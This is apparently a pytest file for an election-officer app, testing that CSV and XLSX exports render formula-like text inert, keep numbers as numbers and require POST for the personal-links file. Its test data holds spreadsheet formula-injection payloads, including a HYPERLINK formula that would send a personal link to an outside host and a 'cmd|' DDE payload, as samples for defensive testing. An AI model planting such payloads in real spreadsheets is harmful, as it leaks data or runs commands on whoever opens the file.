"""Every CSV and XLSX the app writes goes through screening/exports.py, and no cell in any of them
runs as a formula, whatever the roster held."""

import csv
import io
from datetime import date

import openpyxl
import pytest

from screening.exports import Column, neutralise, write_csv, write_xlsx

# A roster name that, live in tautan.xlsx, sends the personal link in column F to a stranger.
FORMULA_NAME = '=HYPERLINK("http://x"&F2,"Buka")'
AREA = {"kelurahan": "3375011002", "tps": "4"}


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def assert_inert_cell(cell, text: str) -> None:
    """An XLSX cell that holds `text` as text, never a formula."""
    assert cell.data_type != "f"
    assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a lone CR back as LF


@pytest.mark.parametrize(
    "text",
    [FORMULA_NAME, "+62 812", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx"],
)
def test_text_that_a_spreadsheet_would_run_is_written_with_an_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert csv_rows(write_csv([[text]], ["Nama"]))[1] == ["'" + text]
    assert_inert_cell(xlsx_sheet(write_xlsx([[text]], ["Nama"], "Uji"))["A2"], text)


@pytest.mark.parametrize("text", ["Siti", "08123", "", "a=b", " =1", "'sudah"])
def test_ordinary_text_is_written_as_it_is(text):
    assert neutralise(text) == text
    assert csv_rows(write_csv([[text]], ["Nama"]))[1] == [text]


def test_numbers_stay_numbers_negative_ones_too():
    row = [-1, -2.5, 3, date(1990, 1, 1)]
    sheet = xlsx_sheet(write_xlsx([row], ["a", "b", "c", "d"], "Uji"))
    assert [c.value for c in sheet[2]][:3] == [-1, -2.5, 3]
    assert [c.data_type for c in sheet[2]][:3] == ["n", "n", "n"]
    assert sheet["D2"].value.date() == date(1990, 1, 1)
    assert csv_rows(write_csv([row], ["a", "b", "c", "d"]))[1] == ["-1", "-2.5", "3", "01/01/1990"]


def test_identifier_columns_keep_their_digits_as_text():
    sheet = xlsx_sheet(write_xlsx([[3375011403850001]], [Column("NIK", as_text=True)], "Uji"))
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("3375011403850001", "s")


def test_a_header_that_looks_like_a_formula_is_inert_too():
    sheet = xlsx_sheet(write_xlsx([], [FORMULA_NAME], "Uji"))
    assert_inert_cell(sheet["A1"], FORMULA_NAME)
    assert csv_rows(write_csv([], [FORMULA_NAME]))[0] == ["'" + FORMULA_NAME]


def test_a_control_character_excel_cannot_hold_is_replaced_not_raised():
    sheet = xlsx_sheet(write_xlsx([["Siti\x01\x1b"]], ["Nama"], "Uji"))
    assert sheet["A2"].value == "Siti\ufffd\ufffd"


# -- The links export -------------------------------------------------------------------------


def test_the_links_export_writes_a_formula_name_as_inert_text(client, make, sign_in):
    make.officer(name=FORMULA_NAME, tps=4)
    sign_in("kpu")
    response = client.post("/kpu/petugas/tautan.xlsx", data=AREA)
    assert response.status_code == 200
    sheet = xlsx_sheet(response.data)
    assert_inert_cell(sheet["A2"], FORMULA_NAME)
    assert "/s/" in sheet["F2"].value
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_opening_the_links_export_address_issues_no_links(client, make, sign_in, db):
    make.officer(tps=4)
    sign_in("kpu")
    response = client.get("/kpu/petugas/tautan.xlsx?kelurahan=3375011002&tps=4")
    assert response.status_code == 405
    assert db["officer_access"].count == 0
    client.post("/kpu/petugas/tautan.xlsx", data=AREA)
    assert db["officer_access"].count == 1


def test_the_officers_page_asks_for_the_links_file_with_a_form_that_posts(client, make, sign_in):
    make.officer(tps=4)
    sign_in("kpu")
    page = client.get("/kpu/petugas/?kelurahan=3375011002&tps=4").text
    assert '<form method="post" action="/kpu/petugas/tautan.xlsx">' in page
    assert 'name="kelurahan" value="3375011002"' in page
    assert 'href="/kpu/petugas/tautan.xlsx' not in page
